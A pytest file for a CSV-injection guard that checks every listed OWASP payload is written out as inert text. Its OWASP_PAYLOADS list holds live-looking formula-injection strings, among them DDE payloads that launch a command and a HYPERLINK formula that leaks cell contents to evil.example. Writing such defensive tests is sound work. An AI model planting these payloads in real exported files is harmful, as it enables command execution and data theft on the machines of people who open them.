"""The CSV guard (wizard/csv_guard.py): every OWASP CSV-injection payload comes out as text."""

from __future__ import annotations

import csv
import io
import re

import pytest

from wizard.csv_guard import INITIATORS, SafeWriter, neutralise

# OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): its two examples, one
# payload per formula initiator it lists (= + - @ tab CR LF and the full-width forms), the
# classic DDE and HYPERLINK payloads, and the bypasses found in issue 13 (a leading space, a
# formula after a separator).
OWASP_PAYLOADS = [
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\uff1d1+2",
    "\uff0b1+2",
    "\uff0d1+2",
    "\uff20SUM(1+2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    " =1+1 Blue",
    "Fab;=1+1",
    "Contoso;@SUM(1+1)",
    "Fab,=1+1",
    "Fab; =1+1",
    "Fab\t=1+1",
    "Fab\r\n+1+1",
    'Fab"=1+1',
    "Fab'-1+1",
    "   @x",
    "\u00a0=1+1",
]

SAFE = [
    "Northwind IT",
    "owner@example.com",
    "1-2",
    "O'Brien & Sons",
    "Test | Foo",
    "2026-01-31T10:00:00+00:00",
    "",
    "Recurring Service contract",
]


def cells_as_any_reader_sees_them(line: str) -> list[str]:
    """The cells a spreadsheet might make of a line, whatever it takes as the separator.

    The csv module with each common delimiter, plus a naive reader that splits at every
    separator, line break and double quote (as OWASP warns an attacker may make it do).
    """
    cells: list[str] = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter):
            cells += row
    cells += re.split(r"[,;\t\r\n\"]", line)
    return [c.lstrip(" \u00a0\u3000") for c in cells]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (" =1+1 Blue", "' =1+1 Blue"),
        ("Fab;=1+1", "Fab;'=1+1"),
        ("Contoso;@SUM(1+1)", "Contoso;'@SUM(1+1)"),
        ('=1+2";=1+2', "'=1+2\";'=1+2"),
        ("\t=1+2", "'\t'=1+2"),
        ("\uff1d1+2", "'\uff1d1+2"),
    ],
)
def test_a_quote_goes_before_every_place_a_formula_could_start(value, expected) -> None:
    assert neutralise(value) == expected


def test_owasps_examples_come_out_wrapped_quoted_and_prefixed() -> None:
    # OWASP's table: '=1+2";=1+2' -> "'=1+2"";=1+2". Ours also quotes the formula after the ';'
    # (a reader splitting at ';' would otherwise start a cell with it).
    assert SafeWriter().row(['=1+2";=1+2']) == '"\'=1+2"";\'=1+2"\r\n'
    assert SafeWriter().row(["=1+2'\" ;,=1+2"]) == '"\'=1+2\'"" ;,\'=1+2"\r\n'


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_no_reader_sees_a_cell_that_starts_a_formula(payload) -> None:
    line = SafeWriter().row(["before", payload, "after"])
    for cell in cells_as_any_reader_sees_them(line):
        assert not cell or cell[0] not in INITIATORS, (payload, cell)


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + SAFE)
def test_every_field_is_quoted_and_reads_back_as_written(payload) -> None:
    line = SafeWriter().row([payload, 3])
    assert line.startswith('"') and line.endswith('"\r\n') and ',"3"' in line
    assert next(csv.reader(io.StringIO(line, newline=""))) == [neutralise(payload), "3"]


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_values_are_left_alone(value) -> None:
    assert neutralise(value) == value
